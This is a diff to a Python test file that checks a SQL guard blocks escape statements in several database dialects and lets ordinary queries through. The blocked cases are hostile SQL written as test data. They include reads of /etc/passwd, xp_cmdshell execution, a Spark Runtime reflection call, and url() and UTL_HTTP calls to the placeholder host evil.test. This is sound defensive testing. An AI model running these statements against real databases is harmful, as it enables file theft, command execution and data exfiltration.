@@ -29,6 +29,7 @@ from groundwire.hooks import (
     issue_passport,
     public_hex,
 )
+from groundwire.hooks.containment.statements import SqlRules, check_sql
 
 PHYSICAL = {"kind": "physical", "version": 1, "actions": ["do"], "limits": {"force": {"max": "5 N"}}}
 PLANS = {"kind": "trajectory", "version": 1, "tools": {"search": {}}}
@@ -218,6 +219,45 @@ def test_a_session_ends_while_the_guard_lives() -> None:
     assert guard.check("All is well.").allowed
     now[0] += 3_631
     assert guard.check("All is well.").reason == "anchor_expired"
+
+
+@pytest.mark.parametrize(
+    ("dialect", "statement"),
+    [
+        ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
+        ("duckdb", "FROM '/etc/passwd'"),
+        ("duckdb", "SELECT * FROM query('select * from users')"),
+        ("duckdb", "PIVOT users ON a USING sum(b)"),
+        ("snowflake", "SELECT * FROM IDENTIFIER('users')"),
+        ("snowflake", "SELECT * FROM TABLE('users')"),
+        ("snowflake", "SELECT * FROM @stage/file"),
+        ("tsql", "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) x"),
+        ("tsql", "EXEC xp_cmdshell 'id'"),
+        ("clickhouse", "SELECT * FROM url('http://evil.test', 'CSV')"),
+        ("bigquery", "SELECT * FROM ML.PREDICT(MODEL m, TABLE users)"),
+        ("mysql", "SELECT * FROM orders INTO DUMPFILE '/tmp/x'"),
+        ("sqlite", "SELECT * FROM pragma_table_info('users')"),
+        ("oracle", "SELECT UTL_HTTP.REQUEST('http://evil.test') FROM orders"),
+        ("spark", "SELECT reflect('java.lang.Runtime', 'getRuntime')"),
+        ("postgres", "SELECT * FROM orders WHERE id IN (TABLE users)"),
+    ],
+)
+def test_the_ways_out_of_other_databases_are_closed(dialect: str, statement: str) -> None:
+    assert check_sql(statement, SqlRules(dialect, ("select",), ("orders",))) is not None
+
+
+@pytest.mark.parametrize(
+    ("dialect", "statement"),
+    [
+        ("duckdb", "FROM orders"),
+        ("postgres", "SELECT * FROM orders, LATERAL (SELECT 1) x, (VALUES (1)) v(a)"),
+        ("postgres", "SELECT * FROM generate_series(1, 3), unnest(ARRAY[1])"),
+        ("bigquery", "SELECT * FROM orders, UNNEST(items) i"),
+        ("snowflake", "SELECT * FROM orders QUALIFY row_number() OVER (ORDER BY id) = 1"),
+    ],
+)
+def test_ordinary_statements_of_other_databases_pass(dialect: str, statement: str) -> None:
+    assert check_sql(statement, SqlRules(dialect, ("select",), ("orders",))) is None
 
 
 def test_no_statement_or_value_reaches_a_log(caplog: pytest.LogCaptureFixture) -> None:
